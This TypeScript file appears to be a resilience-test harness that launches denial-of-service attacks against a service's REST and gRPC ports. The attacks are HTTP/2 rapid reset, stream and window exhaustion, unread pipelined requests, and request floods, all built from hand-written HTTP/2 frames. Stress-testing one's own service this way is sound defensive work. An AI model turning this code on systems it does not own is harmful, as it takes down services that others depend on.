import http2 from 'node:http2'
import net from 'node:net'

/** The target of an attack: `host` and `port` of both addresses. */
interface Targets {
  readonly rest: net.TcpNetConnectOpts
  readonly internal: net.TcpNetConnectOpts
}

const frameHeadBytes = 9
const frameType = { data: 0, headers: 1, reset: 3, settings: 4 } as const
const endHeaders = 4
const endStream = 1
/** The first bytes of an HTTP/2 connection. */
const preface = Buffer.concat([
  Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
  frame(frameType.settings, 0, 0, Buffer.alloc(0)),
])

/** Each attacks until its process ends. A connection that is closed is opened again. */
const attacks: Readonly<Record<string, (targets: Targets) => void>> = {
  /** 700 connections, each with 150 requests for the largest document; no answer is read. */
  'unread pages': ({ rest }) => many(700, () => unread(rest, '/openapi.json', 150)),
  'unread metrics': ({ internal }) => many(700, () => unread(internal, '/metrics', 150)),
  /** As many streams as a session takes; none of their answers may be sent. */
  'unread streams': ({ internal }) => many(40, () => unreadStreams(internal)),
  /** 4,000 streams without a token. */
  watches: ({ internal }) => many(40, () => watches(internal, 100)),
  'rapid reset': ({ internal }) => many(8, () => rapidReset(internal)),
  /** 200 connections that ask as fast as they are answered. */
  'health flood': ({ rest }) => many(200, () => flood(rest, 'GET /health/live')),
  'unsigned flood': ({ rest }) => many(200, () => flood(rest, 'POST /v1/pos/basket')),
  'not found flood': ({ rest }) => many(200, () => flood(rest, 'GET /nothing')),
  'check flood': ({ internal }) => many(40, () => floodOfCalls(internal, '/grpc.health.v1.Health/Check')),
  'no token flood': ({ internal }) => many(40, () => floodOfCalls(internal, '/loyalty.v1.LimitService/GetLimit')),
}

const againMs = 100

export const attackNames = Object.keys(attacks)

function targetOf(url: string): net.TcpNetConnectOpts {
  const { hostname, port } = new URL(url)
  return { host: hostname, port: Number(port) }
}

function many(count: number, open: () => { once(event: 'close', listener: () => void): unknown }): void {
  const again = () => open().once('close', () => setTimeout(again, againMs))
  for (let index = 0; index < count; index += 1) again()
}

function connect(target: net.TcpNetConnectOpts): net.Socket {
  return net.connect(target).on('error', () => {})
}

function unread(target: net.TcpNetConnectOpts, path: string, requests: number): net.Socket {
  const socket = connect(target)
  socket.write(`GET ${path} HTTP/1.1\r\nHost: a\r\n\r\n`.repeat(requests))
  return socket.pause()
}

function flood(target: net.TcpNetConnectOpts, line: string): net.Socket {
  const socket = connect(target)
  const ask = () => socket.write(`${line} HTTP/1.1\r\nHost: a\r\n\r\n`)
  socket.on('data', ask)
  ask()
  return socket
}

function unreadStreams(target: net.TcpNetConnectOpts): http2.ClientHttp2Session {
  const session = http2.connect(`http://${target.host}:${target.port}`, { settings: { initialWindowSize: 0 } })
  session.on('error', () => {})
  for (let index = 0; index < 100; index += 1) session.request({ ':path': '/openapi.json' }).on('error', () => {})
  return session
}

/** Ignores answers: all streams stay open that the server leaves open. */
function watches(target: net.TcpNetConnectOpts, streams: number): net.Socket {
  const socket = connect(target)
  const head = headersOf('/grpc.health.v1.Health/Watch')
  const ids = Array.from({ length: streams }, (_, index) => 2 * index + 1)
  const calls = ids.flatMap((id) => [
    frame(frameType.headers, endHeaders, id, head),
    frame(frameType.data, endStream, id, Buffer.alloc(5)),
  ])
  socket.write(Buffer.concat([preface, ...calls]))
  return socket.resume()
}

function rapidReset(target: net.TcpNetConnectOpts): net.Socket {
  const socket = connect(target)
  const head = headersOf('/grpc.health.v1.Health/Check')
  const cancel = Buffer.from([0, 0, 0, http2.constants.NGHTTP2_CANCEL])
  let next = 1
  const send = () => {
    const frames: Buffer[] = []
    for (const untilId = next + 1_000; next < untilId; next += 2)
      frames.push(frame(frameType.headers, endHeaders, next, head), frame(frameType.reset, 0, next, cancel))
    if (!socket.destroyed) socket.write(Buffer.concat(frames), () => setImmediate(send))
  }
  socket.write(preface)
  send()
  return socket.resume()
}

function floodOfCalls(target: net.TcpNetConnectOpts, path: string): http2.ClientHttp2Session {
  const session = http2.connect(`http://${target.host}:${target.port}`)
  session.on('error', () => {})
  const headers = { ':method': 'POST', ':path': path, 'content-type': 'application/grpc', te: 'trailers' }
  const call = () => {
    if (session.closed || session.destroyed) return
    const stream = session.request(headers)
    stream.on('error', () => {})
    stream.on('close', call)
    stream.resume()
    stream.end(Buffer.alloc(5))
  }
  for (let index = 0; index < 20; index += 1) call()
  return session
}

/** Headers of a gRPC call without table entries: each is literal, or in HPACK's static table. */
function headersOf(path: string): Buffer {
  const literal = (index: number, value: string) =>
    Buffer.concat([Buffer.from([index, value.length]), Buffer.from(value)])
  const [post, http, pathIndex, authorityIndex] = [0x83, 0x86, 0x04, 0x01]
  return Buffer.concat([
    Buffer.from([post, http]),
    literal(pathIndex, path),
    literal(authorityIndex, 'a'),
    // content-type, the 31st of the table: an index above 15 takes a second byte.
    Buffer.from([0x0f, 31 - 15]),
    Buffer.from([16]),
    Buffer.from('application/grpc'),
  ])
}

function frame(type: number, flags: number, id: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(frameHeadBytes)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = type
  head[4] = flags
  head.writeUInt32BE(id, 5)
  return Buffer.concat([head, payload])
}

if (process.connected) {
  process.once('disconnect', () => process.exit())
  const [name, rest, internal] = process.argv.slice(2)
  attacks[name!]!({ rest: targetOf(rest!), internal: targetOf(internal!) })
}
